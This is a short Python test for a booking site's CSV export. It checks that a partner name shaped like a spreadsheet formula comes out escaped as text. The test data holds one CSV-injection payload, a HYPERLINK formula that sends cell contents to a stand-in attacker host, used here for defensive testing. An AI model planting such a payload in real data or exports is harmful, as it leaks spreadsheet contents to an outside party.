"""The dashboard's CSV exports never hand a spreadsheet a formula (names come from the directory and partners)."""
import csv
import io

from bookingsite.extensions import db
from bookingsite.models import Partner
from tests.piloting.history import load_history, login, make_agent

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_a_partner_named_like_a_formula_is_exported_as_text(app, client):
    load_history(bookings=300, prequals=50, offers=0)
    db.session.get(Partner, "partner-0").name = FORMULA
    db.session.commit()
    login(client, make_agent("admin"))
    text = client.get("/piloting/export/partners.csv").get_data(as_text=True)
    labels = {row[0]: row[1] for row in csv.reader(io.StringIO(text))}
    assert labels["partner-0"] == "'" + FORMULA
    assert not any(label.startswith(("=", "+", "-", "@")) for label in labels.values())
